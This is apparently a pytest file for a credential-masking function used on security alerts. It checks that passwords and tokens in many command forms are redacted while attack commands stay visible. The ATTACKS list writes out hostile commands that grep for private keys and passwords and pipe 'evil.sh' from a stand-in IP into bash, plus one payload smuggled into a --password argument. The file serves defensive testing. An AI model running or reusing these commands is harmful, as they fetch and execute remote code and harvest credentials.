"""Credentials in command lines and documents that alerts of Defender quote, and attacks that a mask must not hide."""

from __future__ import annotations

import pytest

from router.destinations.wording.masking import masked

SECRET = "hUnter2Canary"

CREDENTIALS = (
    # Environment: the name ends in a word for a credential, whatever stands before it.
    f"GITHUB_TOKEN={SECRET} gh api",
    f"docker run -e DB_PASS={SECRET} img",
    f"docker run -e VAULT_TOKEN={SECRET} img",
    f"kubectl exec p -- env JWT_SECRET={SECRET} sh",
    f"kubectl create secret generic s --from-literal=token={SECRET}",
    f"setx AZURE_CLIENT_SECRET {SECRET} /M",
    f"$pass = '{SECRET}'",
    f"aws configure set aws_secret_access_key {SECRET}",
    # YAML, specifications of pods, JSON and XML.
    f"stringData:\n  password: {SECRET}",
    f"client_secret: {SECRET}",
    f'{{"name": "MYSQL_ROOT_PASSWORD", "value": "{SECRET}"}}',
    f'{{"secret": "{SECRET}"}}',
    f'{{"token": "{SECRET}"}}',
    f"<password>{SECRET}</password>",
    # Tools of Microsoft's and of databases.
    f"sqlcmd -S srv -U sa -P {SECRET} -Q 'select 1'",
    f"bcp db..t out f -S s -U sa -P {SECRET}",
    f"CREATE LOGIN x WITH PASSWORD = N'{SECRET}'",
    f"CREATE DATABASE SCOPED CREDENTIAL c WITH IDENTITY='u', SECRET = '{SECRET}'",
    f"ConvertTo-SecureString {SECRET} -AsPlainText -Force",
    f"[Environment]::SetEnvironmentVariable('DB_PASSWORD','{SECRET}')",
    f"az keyvault secret set --vault-name v --name db-pw --value '{SECRET}'",
    f"az acr login -n x -u u -p {SECRET}",
    f"az sql server create -n s -u admin -p {SECRET}",
    f"schtasks /create /ru u /rp {SECRET} /tn x",
    f"net use z: \\\\h\\s /user:bob {SECRET}",
    # Tools of others.
    f"curl -sku admin:{SECRET} https://h",
    f"curl -H 'Authorization: {SECRET}' https://h",
    f"curl -d 'user=a&pass={SECRET}&x=1' https://h/login",
    f"git clone https://{SECRET}@github.com/o/r.git",
    f"redis-cli -h h -a {SECRET} ping",
    f"mongo -u u -p {SECRET} --authenticationDatabase admin",
    f"ldapsearch -x -D cn=a -w {SECRET} -b dc=x",
    f"secretsdump.py D/u:{SECRET}@10.0.0.1",
    f"echo root:{SECRET} | chpasswd",
    f"https://s3.amazonaws.com/b/k?X-Amz-Signature={SECRET}&X-Amz-Expires=1",
    f"https://x.webhook.office.com/webhookb2/{SECRET}/IncomingWebhook/a",
    # Half a credential behind a mask looks as if all of it were masked.
    f'--password=a"{SECRET}"b',
    f"Server=s;Password=a'{SECRET};x=y",
)

ATTACKS = (
    "grep -r -e '-----BEGIN RSA PRIVATE KEY-----' /home; curl -s http://203.0.113.9/evil.sh | bash",
    "echo '-----BEGIN PRIVATE KEY-----' >/dev/null; curl -s http://203.0.113.9/evil.sh | bash",
    "grep -ri 'password=' /var/www && wget http://203.0.113.9/evil.sh",
    'find / -name "*.php" | xargs grep "password=" ; wget http://203.0.113.9/evil.sh',
    '--password "$(curl http://203.0.113.9/evil.sh|sh)"',
    "curl -U http://203.0.113.9:80/evil.sh",
)


@pytest.mark.parametrize("text", CREDENTIALS)
def test_a_credential_in_a_common_form_is_masked(text: str) -> None:
    """What people type to sign in, in the tools and documents that alerts quote."""
    assert SECRET not in masked(text)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_mask_hides_no_attack(text: str) -> None:
    """Whoever looks for credentials, or writes the mark of one, hides nothing else of a command behind it."""
    assert "evil.sh" in masked(text)
